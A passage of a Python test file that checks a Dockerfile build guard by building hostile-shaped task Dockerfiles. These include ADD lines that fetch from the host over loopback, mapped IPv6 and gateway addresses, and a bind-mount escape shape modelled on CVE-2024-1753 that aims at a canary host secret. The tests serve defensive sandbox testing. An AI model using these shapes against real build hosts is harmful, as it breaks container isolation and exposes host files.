    "add-url-after-comment": "FROM debian:bookworm-slim\nADD \\\n# c\n http://127.0.0.1:{port}/{fresh} /q\n",
    "add-mapped-ipv6": "FROM debian:bookworm-slim\nADD http://[::ffff:127.0.0.1]:{port}/{fresh} /q\n",
    "add-gateway": "FROM debian:bookworm-slim\nADD http://{gateway}:{port}/{fresh} /q\n",
}
#: Two tasks whose identical RUN line mounts a stage of different content.
CACHE_PAIR = (
    "FROM debian:bookworm-slim AS builder\nRUN echo {content} > /payload\n"
    "FROM debian:bookworm-slim\nRUN --mount=type=bind,from=builder,source=/payload,target=/p cp /p /payload-copy\n"
)


async def _build_outcome(task: Path) -> str:
    """What a build left to read: its log, or its error and log, as text."""
    try:
        prepared = await prepare_task_image(task, {"extra_ca_certs": []}, logging.getLogger("builder-probe"))
    except ImageBuildError as failed:
        log = failed.log_path.read_text(errors="replace") if failed.log_path else ""
        return f"refused or failed: {failed}\n{log}"
    return "built\n" + (prepared.build_log.read_text(errors="replace") if prepared.build_log else "")


@pytest.fixture(scope="module")
def builder_probes(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """Every shape built twice (guard on, guard off) and the cache pair built in turn; what the host saw after."""
    tmp_path = tmp_path_factory.mktemp("builder")
    secret, canary = tmp_path / "host-secret.txt", f"builder-canary-{secrets.token_hex(8)}"
    secret.write_text(canary)
    fresh = secrets.token_hex(8)
    mount = "type=bind,from=l,source=/r,target=/h"
    listeners = {(name, guarded): Listener() for name in ADD_SHAPES for guarded in (True, False)}
    outcomes: dict[tuple[str, bool], str] = {}
    for guarded in (True, False):
        # A token per build: shapes that buildah reads alike would otherwise take each other's cached steps and try nothing.
        texts = {
            name: shape.format(fresh=f"{fresh}-{name}-{guarded}", mount=mount, secret=secret, planted=tmp_path / f"planted-{name}")
            for name, shape in MOUNT_SHAPES.items()
        }
        texts |= {
            name: shape.format(fresh=f"{fresh}-{name}-{guarded}", port=listeners[(name, guarded)].port, gateway=gateway_address())
            for name, shape in ADD_SHAPES.items()
        }
        tasks = {name: write_task(tmp_path / f"guard-{guarded}", name) for name in texts}
        for name, task in tasks.items():
            (task / "environment" / "Dockerfile").write_text(texts[name])
        with pytest.MonkeyPatch.context() as patch:
            if not guarded:  # the test-only switch: every Dockerfile goes to the builder as written
                patch.setattr(images, "guard", lambda text, context, *keys: build_guard.Guarded(text))

            async def build_all(tasks=tasks) -> list[str]:
                return list(await asyncio.gather(*(_build_outcome(task) for task in tasks.values())))

            outcomes |= {(name, guarded): found for name, found in zip(tasks, asyncio.run(build_all()), strict=True)}
    pair = {side: write_task(tmp_path / "cache-pair", f"cache-{side}") for side in ("a", "b")}
    for side, task in pair.items():
        (task / "environment" / "Dockerfile").write_text(CACHE_PAIR.format(content=f"{side}-{fresh}"))
    copies = {}
    for side, task in pair.items():  # one after the other: the second may only find the first's cache
        prepared = asyncio.run(prepare_task_image(task, {"extra_ca_certs": []}, logging.getLogger("builder-probe")))
        copies[side] = podman_sync("run", "--rm", prepared.image, "cat", "/payload-copy").check("reading the copy").text
    return {"outcomes": outcomes, "tmp": tmp_path, "canary": canary, "listeners": listeners, "copies": copies, "fresh": fresh}


@pytest.mark.parametrize("guarded", [True, False], ids=["guard-on", "guard-off"])
@pytest.mark.parametrize("shape", sorted(MOUNT_SHAPES))
def test_a_bind_mount_escape_shape_reads_and_writes_nothing_of_the_host(builder_probes, shape, guarded):
    """CVE-2024-1753's shape as the guard once misread it: whatever the guard makes of it, the builder's root is not the host's."""
    outcome = builder_probes["outcomes"][(shape, guarded)]
    assert builder_probes["canary"] not in outcome, f"a RUN step read the host's file: {outcome[-2000:]}"
    assert not (builder_probes["tmp"] / f"planted-{shape}").exists(), "a RUN step wrote into the host's file system"


@pytest.mark.parametrize("guarded", [True, False], ids=["guard-on", "guard-off"])
@pytest.mark.parametrize("shape", sorted(ADD_SHAPES))
def test_an_add_of_a_host_address_reaches_no_host_listener(builder_probes, shape, guarded):
    outcome = builder_probes["outcomes"][(shape, guarded)]
    assert outcome.startswith("refused or failed"), f"the build fetched from the host: {outcome[-2000:]}"
    assert builder_probes["listeners"][(shape, guarded)].connections == 0, f"the host's listener was reached: {outcome[-2000:]}"


def test_the_bind_mount_escape_builds_with_the_guard_on(builder_probes):
    """The guard lowers the mount rather than refusing the task: a task that mounts from a stage still builds."""
    assert builder_probes["outcomes"][("read-only", True)].startswith("built"), builder_probes["outcomes"][("read-only", True)][-2000:]


def test_no_cached_step_crosses_tasks_whose_mounted_stages_differ(builder_probes):
    """Two tasks, one RUN line, different ``from=`` stages: each image holds its own stage's content."""
    fresh = builder_probes["fresh"]
    assert builder_probes["copies"] == {"a": f"a-{fresh}", "b": f"b-{fresh}"}
